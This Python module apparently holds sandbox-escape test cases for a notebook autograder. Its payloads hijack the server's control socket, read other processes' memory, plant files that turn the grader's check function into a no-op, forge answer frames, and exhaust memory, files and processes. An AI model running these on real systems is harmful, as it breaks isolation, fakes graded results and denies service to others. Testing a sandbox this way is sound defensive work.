"""Attacks on the wall between a notebook and everything above, beside and after it."""

CALLS = r"""
import ctypes, json, os, signal, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
ARM = os.uname().machine == "aarch64"
def call(number, *arguments):
    number = number[ARM] if isinstance(number, tuple) else number
    return libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
def others():
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
FRAMES = b'{"begun": 0}\n{"cell": 0, "outputs": [], "count": 1}\n{"ended": 0}\n'
def takes_over(descriptor):
    # Whoever holds the server's control socket answers in its place: this one is kept alive, and runs the next notebook.
    print("taken over")
    if os.fork():
        return
    os.closerange(0, descriptor)
    control, words = socket.socket(fileno=descriptor), []
    control.setblocking(True)
    while True:
        said, pipes, _, _ = socket.recv_fds(control, 1 << 16, 4)
        if not said:
            os._exit(0)
        if len(pipes) == 2:
            os.read(pipes[0], 1 << 16)
            os.write(pipes[1], FRAMES)
            os.close(pipes[1])
        elif said.startswith(b"e"):
            control.send(words.pop() if words else b"d")
        else:
            words.append(said)
def is_socket(descriptor):
    try:
        return os.readlink(f"/proc/self/fd/{descriptor}").startswith("socket:")
    except OSError:
        return False
def tries(action):
    try:
        print(action())
    except Exception as error:
        print(type(error).__name__, error)
"""

TELLS_THE_NEXT = """
import os, pickle, sys
code = "import builtins; builtins.check = lambda *given: None"
for folder in ("/scratch", "/tmp", "/dev/shm", os.path.expanduser("~"), "/scratch/.ipython/profile_default/startup", ".", "/dev"):
    for name in ("left.py", "sitecustomize.py", "conftest.py", "pandas.py", ".pth", "left.pickle", "00-first.py"):
        path = os.path.join(folder, name)
        try:
            print("found", path, open(path).read()) if os.path.exists(path) else None
            os.makedirs(folder, exist_ok=True)
            open(path, "w").write(code)
        except OSError as error:
            print(error.errno)
"""

FIRST = {
    "takeover-by-pidfd": CALLS
    + """
for number in others():
    pidfd = call(434, number, 0)
    print([call(424, pidfd, n, 0, 0) for n in (0, 9)])
    for wanted in range(200):
        descriptor = call(438, pidfd, wanted, 0)
        if descriptor >= 0 and is_socket(descriptor):
            takes_over(descriptor)
""",
    "takeover-by-proc-fd": CALLS
    + """
for number in others():
    for wanted in range(200):
        for flags in (os.O_RDWR, os.O_RDONLY, os.O_WRONLY | os.O_NONBLOCK):
            try:
                descriptor = os.open(f"/proc/{number}/fd/{wanted}", flags)
                print("opened", os.readlink(f"/proc/{number}/fd/{wanted}"))
                os.write(descriptor, FRAMES)
            except OSError as error:
                pass
print(os.listdir("/proc/1/fd"))
""",
    "takeover-by-process-vm": CALLS
    + """
memory = ctypes.create_string_buffer(4096)
for number in (1, *others()):
    for name in (f"/proc/{number}/maps", "/proc/self/maps"):  # a copy lies where its parent lies
        tries(lambda: open(name).read(10))
    for line in open("/proc/self/maps").read().splitlines():
        low = int(line.split("-")[0], 16)
        here, there = struct.pack("QQ", ctypes.addressof(memory), 4096), struct.pack("QQ", low, 4096)
        for way in ((310, 270), (311, 271)):
            if call(way, number, here, 1, there, 1, 0) > 0:
                print("reached", memory.raw[:100])
""",
    "takeover-by-ptrace": CALLS
    + """
for number in (1, *others()):
    for request in (16, 0x4206):
        print(call((101, 117), request, number, 0, 0), ctypes.get_errno())
    tries(lambda: open(f"/proc/{number}/mem", "r+b").read(1))
    tries(lambda: os.listdir(f"/proc/{number}/root/"))
""",
    "listens-ahead-of-the-server": CALLS
    + """
for descriptor in range(1024):
    if is_socket(descriptor):
        takes_over(descriptor)
for family, kind in ((1, 1), (1, 2), (1, 5)):
    tries(lambda: socket.socket(family, kind).connect("\\0tworivers"))
""",
    "key-rings": CALLS
    + """
for ring in (-1, -2, -3, -4, -5):
    print(call((248, 217), b"user", b"answers", b"forty", 5, ring), call((249, 218), b"user", b"answers", None, ring))
    print(call((250, 219), 0, ring, 1), call((250, 219), 11, ring, ctypes.create_string_buffer(99), 99))
print(call((250, 219), 1, b"tworivers"), open("/proc/keys").read(), open("/proc/key-users").read())
""",
    "system-v": CALLS
    + """
for key in (0, 0x1957, 0x1964):
    print(call((29, 194), key, 900 << 20, 0o1666), call((64, 190), key, 9, 0o1666), call((68, 186), key, 0o1666), ctypes.get_errno())
print([open(f"/proc/sysvipc/{name}").read() for name in ("shm", "sem", "msg")])
""",
    "names-of-shared-memory": CALLS
    + """
from multiprocessing import shared_memory
print("found", os.listdir("/dev/shm"))
for name in ("answers", "psm_00000000", "sem.tworivers"):
    tries(lambda: bytes(shared_memory.SharedMemory(name).buf[:9]))
    tries(lambda: shared_memory.SharedMemory(name, create=True, size=99).name)
print(call((240, 180), b"tworivers", 0o102, 0o666, None), ctypes.get_errno())
""",
    "abstract-sockets": CALLS
    + """
tries(lambda: open("/proc/net/unix").read())
for name in ("\\0answers", "\\0/tmp/.X11-unix/X0", "\\0tworivers"):
    client, server = socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)
    tries(lambda: (client.connect(name), client.recv(99)))
    server.bind(name); server.listen(5)
    if os.fork() == 0:
        os.setsid()
        while True:
            one, _ = server.accept()
            socket.send_fds(one, [b"40 of 40"], [server.fileno()])
a, b = socket.socketpair()
for _ in range(50):
    socket.send_fds(a, [b"x"], [a.fileno(), b.fileno()])  # what keeps itself alive
""",
    "io-uring": CALLS
    + """
print(call(425, 8, ctypes.create_string_buffer(120)), ctypes.get_errno(), call(426, 3, 1, 1, 1, 0, 0), call(427, 3, 0, 0, 0))
""",
    "userfaultfd": CALLS + "print(call((323, 282), 1), ctypes.get_errno(), call((323, 282), 0x80001))",
    "memory-files": CALLS
    + """
for number, name in (((319, 279), b"x"), (447, 0)):
    descriptor = call(number, name, 0)
    print(descriptor, ctypes.get_errno())
    if descriptor >= 0:
        for _ in range(1500):
            os.write(descriptor, bytes(1 << 20))
""",
    "other-sockets": CALLS
    + """
for family in range(2, 46):
    for kind in (1, 2, 3, 5):
        for protocol in (0, 15):
            tries(lambda: socket.socket(family, kind, protocol).fileno())
        tries(lambda: socket.socketpair(family, kind))
tries(lambda: socket.create_connection(("127.0.0.1", {port}), timeout=1).send(b"hello"))
tries(lambda: socket.socket(40, 1).connect((2, {port})))
""",
    "left-for-the-next": TELLS_THE_NEXT,
    "daemon-that-nothing-ends": CALLS
    + """
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        libc.prctl(1, 0)
        if os.fork():
            os._exit(0)
        os.chdir("/")
        os.closerange(0, 3)
        os.execvp("sleep", ["sleep", "{nap}"])
os._exit(0)
""",
    "timing-of-a-shared-core": CALLS
    + """
def spins():
    end, count = time.perf_counter_ns() + 1_000_000, 0
    while time.perf_counter_ns() < end:
        count += 1
    return count
counts = [spins() for _ in range(1500)]
print(min(counts), max(counts), open("/proc/stat").read()[:300], open("/proc/loadavg").read())
""",
    "flood-of-files": """
import os
for place in ("/scratch", "/dev/shm", "/tmp", "/dev", "/"):
    try:
        for number in range(10 ** 7):
            os.close(os.open(f"{place}/{number}", os.O_CREAT))
    except OSError as error:
        print(place, number, error.errno)
for number in range(10 ** 5):
    try:
        os.mkdir(f"/dev/shm/{number}"); os.symlink("x" * 4000, f"/scratch/link{number}")
    except OSError as error:
        print(error.errno)
        break
""",
    "shared-mappings": """
import mmap, os
kept = []
for _ in range(60):
    kept.append(mmap.mmap(-1, 50 << 20))
    for place in range(0, 50 << 20, 4096):
        kept[-1][place] = 1
    kept[-1].madvise(mmap.MADV_DONTNEED)
""",
    "writes-that-are-too-large": CALLS
    + """
import fcntl
for descriptor in range(128):
    try:
        fcntl.fcntl(descriptor, 1031, 1 << 30)
    except OSError:
        pass
    try:
        os.set_blocking(descriptor, True)
        for _ in range(40):
            os.write(descriptor, b"\\xff" * (1 << 20))
        os.write(descriptor, b"\\n" * (1 << 20) + b"[" * (1 << 20) + b"\\n")
    except OSError:
        pass
""",
    "forged-frames-and-words": CALLS
    + """
import secrets
for descriptor in range(128):
    try:
        for text in (FRAMES, secrets.token_bytes(16), b"ready", b"end", b"r", b"e", b"d"):
            os.write(descriptor, text)
        for number in range(1, 20):
            for value in (True, 40, {"function": "f"}, {"mapping": []}):
                os.write(descriptor, json.dumps({"question": f"ps02.q{number}", "answer": value}).encode() + b"\\n")
            os.write(descriptor, json.dumps({"question": f"ps02.q{number}", "results": [["(1)", 1]]}).encode() + b"\\n")
    except OSError:
        pass
""",
    "signals-and-limits-of-others": CALLS
    + """
import resource
for number in (1, 0, -1, os.getppid(), *others()):
    for what in (signal.SIGSTOP, signal.SIGINT, signal.SIGCHLD, signal.SIGKILL):
        if number not in (0, -1):
            tries(lambda: os.kill(number, what))
    tries(lambda: resource.prlimit(number, resource.RLIMIT_CPU, (1, 1)))
    tries(lambda: os.setpriority(os.PRIO_PROCESS, number, 19))
    tries(lambda: os.sched_setaffinity(number, {0}))
    tries(lambda: os.sched_setscheduler(number, os.SCHED_FIFO, os.sched_param(1)))
    tries(lambda: open(f"/proc/{number}/oom_score_adj", "w").write("1000"))
""",
    "other-namespaces": CALLS
    + """
print(call((272, 97), 0x10000000), call((56, 220), 0x10000000 | 17, 0, 0, 0, 0), ctypes.get_errno())
flags = ctypes.create_string_buffer(struct.pack("8Q", 0x10000000, 0, 0, 0, 17, 0, 0, 0))
print(call(435, flags, 64), ctypes.get_errno())
for name in ("user", "pid", "mnt", "net", "ipc", "uts"):
    for number in (1, "self"):
        tries(lambda: call((308, 268), os.open(f"/proc/{number}/ns/{name}", 0), 0))
print(call(428, -100, b"/", 1), call(430, b"tmpfs", 0), call((165, 40), b"none", b"/scratch", b"tmpfs", 0, None), ctypes.get_errno())
""",
    "memory-at-the-server-s-cost": CALLS
    + """
for place in ("self", "1"):
    for value in ("-1000", "-999", "0"):
        tries(lambda: open(f"/proc/{place}/oom_score_adj", "w").write(value))
for _ in range(40):
    if os.fork() == 0:
        tries(lambda: open("/proc/self/oom_score_adj", "w").write("0"))
        kept = bytearray(os.urandom(1000)) * 60_000
        time.sleep(20)
        os._exit(0)
time.sleep(20)
""",
    "watches-the-machine": CALLS
    + """
print(call((298, 241), ctypes.create_string_buffer(128), -1, 0, -1, 0), call((321, 280), 0, ctypes.create_string_buffer(128), 128))
print(call((253, 26), 0), call((300, 262), 0, 0), call((103, 116), 3, ctypes.create_string_buffer(9999), 9999), ctypes.get_errno())
for number in range(337, 1000):  # the kernel ends whoever calls 335 and 336, which no filter sees
    if number not in (435, 436):
        call(number, 0, 0, 0, 0, 0, 0)
for name in ("/proc/kallsyms", "/proc/kcore", "/proc/kmsg", "/proc/timer_list", "/proc/slabinfo", "/proc/self/pagemap", "/proc/cgroups", "/proc/self/cgroup"):
    tries(lambda: open(name, "rb").read(50))
""",
}
